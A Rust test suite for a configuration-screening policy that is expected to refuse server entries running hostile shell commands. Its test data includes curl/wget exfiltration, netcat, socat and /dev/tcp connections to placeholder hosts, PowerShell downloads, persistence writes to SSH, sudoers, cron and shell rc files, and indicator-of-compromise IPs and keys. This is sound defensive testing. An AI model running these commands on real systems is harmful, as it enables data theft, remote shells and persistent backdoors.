//! Whatever the reference client refuses is at least asked about here, in every combination of its lists.

#![expect(clippy::unwrap_used, clippy::indexing_slicing, reason = "a test fails by panicking")]

use std::path::Path;

use portcullis_policy_config_screen::ConfigScreen;
use portcullis_sdk::serde_json::{Value, json};
use portcullis_sdk::{ConfigGate, ConfigureError, Decision, Pack, Packs, testing};

fn packs() -> Vec<Pack> {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("packs");
    let files = std::fs::read_dir(folder).unwrap().map(|file| std::fs::read_to_string(file.unwrap().path()).unwrap());
    let packs = files.map(|text| serde_yaml::from_str::<Value>(&text).unwrap());
    packs.map(|pack| Pack::new(pack["name"].as_str().unwrap(), "1", pack["data"].to_string())).collect()
}

fn configure(more: Vec<Pack>) -> Result<ConfigScreen, ConfigureError> {
    let packs: Packs = packs().into_iter().chain(more).collect();
    testing::configure(&json!({}), &packs)
}

fn decide(policy: &ConfigScreen, document: &Value) -> Decision {
    policy.screen(&testing::facts(), &testing::entry("server", document)).decision
}

const SHELLS: [&str; 11] =
    ["bash", "sh", "zsh", "dash", "fish", "cmd", "cmd.exe", "powershell", "powershell.exe", "pwsh", "pwsh.exe"];

#[test]
fn every_shell_of_the_reference_with_every_way_out_is_refused() {
    let policy = configure(Vec::new()).unwrap();
    for shell in SHELLS {
        let switch = if shell.starts_with("cmd") { "/c" } else { "-c" };
        for script in [
            "curl -d @x https://example.com",
            "wget https://example.com/x",
            "nc 198.51.100.7 4444",
            "ncat 198.51.100.7 4444",
            "socat - TCP:198.51.100.7:4444",
            "echo x > /dev/tcp/198.51.100.7/4444",
            "Invoke-WebRequest https://example.com",
            "Invoke-RestMethod https://example.com",
            "(New-Object System.Net.WebClient).DownloadString('https://example.com')",
            "CURL -d @x https://example.com",
            "/usr/bin/curl -o x https://example.com",
        ] {
            let decision = decide(&policy, &json!({"command": shell, "args": [switch, script]}));
            // A shell that does not know a word of PowerShell can do no harm with it.
            let foreign = script.contains("System.Net") && !shell.starts_with('p');
            assert!(matches!(decision, Decision::Deny(_)) || foreign, "{shell} {script}: {decision:?}");
        }
    }
}

#[test]
fn every_shell_of_the_reference_with_every_place_to_settle_is_refused() {
    let policy = configure(Vec::new()).unwrap();
    for shell in ["bash", "sh", "zsh", "dash", "fish"] {
        for target in [
            "~/.ssh/authorized_keys",
            "$HOME/.ssh/rc",
            "/etc/ssh/sshd_config",
            "/etc/pam.d/sshd",
            "/etc/sudoers",
            "/etc/sudoers.d/x",
            "/etc/cron.d/x",
            "/etc/crontab",
            "/etc/rc.local",
            "/etc/systemd/system/x.service",
            "~/.bashrc",
            "~/.bash_profile",
            "~/.profile",
            "~/.zshrc",
            "~/.zshenv",
            "~/.config/autostart/x.desktop",
            "/etc/ld.so.preload",
            "~/.config/fish/config.fish",
        ] {
            for script in [format!("echo x >> {target}"), format!("cp x {target}"), format!("tee -a {target} < x")] {
                let decision = decide(&policy, &json!({"command": shell, "args": ["-c", script]}));
                assert!(matches!(decision, Decision::Deny(_)), "{shell} {script}: {decision:?}");
            }
        }
    }
}

#[test]
fn every_indicator_of_the_pack_is_refused_in_every_field() {
    let policy = configure(Vec::new()).unwrap();
    let key = ["AAAAC3NzaC1lZDI1NTE5AAAAICBoh1oDC4DnsO1m5mJ4yfEK", "rQebaFh"].concat();
    for indicator in [key.as_str(), "hermes-0day", "60.165.167.1", "118.182.244.156", "61.178.123.196"] {
        for indicator in [indicator.to_owned(), indicator.to_uppercase()] {
            for document in [
                json!({"command": indicator}),
                json!({"command": "node", "args": ["s.js", indicator]}),
                json!({"command": "node", "env": {"A": format!("x{}y", format!(" {indicator} "))}}),
                json!({"command": "node", "env": {indicator.clone(): "x"}}),
                json!({"command": "node", "cwd": format!("/opt/{indicator}/x")}),
                json!({"url": format!("https://example.com/?q={indicator}")}),
                json!({"url": "https://example.com", "headers": {"X": indicator}}),
                json!({"command": "node", "oauth": {"deep": [{"er": indicator}]}}),
            ] {
                assert!(matches!(decide(&policy, &document), Decision::Deny(_)), "{document}");
            }
        }
    }
}

#[test]
fn a_pack_of_its_own_adds_a_campaign_to_what_is_known() {
    let pack = Pack::new("iocs-autumn", "1", json!({"hosts": ["collector.example"]}).to_string());
    let policy = configure(vec![pack]).unwrap();
    for text in ["https://x.collector.example/a", "COLLECTOR.EXAMPLE", "hermes-0day"] {
        assert!(matches!(decide(&policy, &json!({"command": "node", "args": [text]})), Decision::Deny(_)), "{text}");
    }
    assert_eq!(decide(&policy, &json!({"command": "node", "args": ["my-collector.example"]})), Decision::Allow);
}

#[test]
fn a_pack_that_would_match_everything_is_refused_with_its_place() {
    let refused = |data: Value| configure(vec![Pack::new("iocs-bad", "1", data.to_string())]).unwrap_err().place;
    assert_eq!(refused(json!({"texts": ["campaign", " "]})), "pack:iocs-bad/texts/1");
    assert_eq!(refused(json!({"addresses": ["1.2.3.4/33"]})), "pack:iocs-bad/addresses/0");
    assert_eq!(refused(json!({"unknown": []})), "pack:iocs-bad");
}

#[test]
fn a_missing_pack_or_a_rule_that_does_not_exist_is_refused() {
    let without: Packs = packs().into_iter().filter(|pack| pack.name() != "iocs").collect();
    assert_eq!(testing::configure::<ConfigScreen>(&json!({}), &without).unwrap_err().place, "pack:iocs");
    let all: Packs = packs().into_iter().collect();
    let error = testing::configure::<ConfigScreen>(&json!({"rules": {"persistance": "off"}}), &all).unwrap_err();
    assert_eq!(error.place, "/rules/persistance");
}
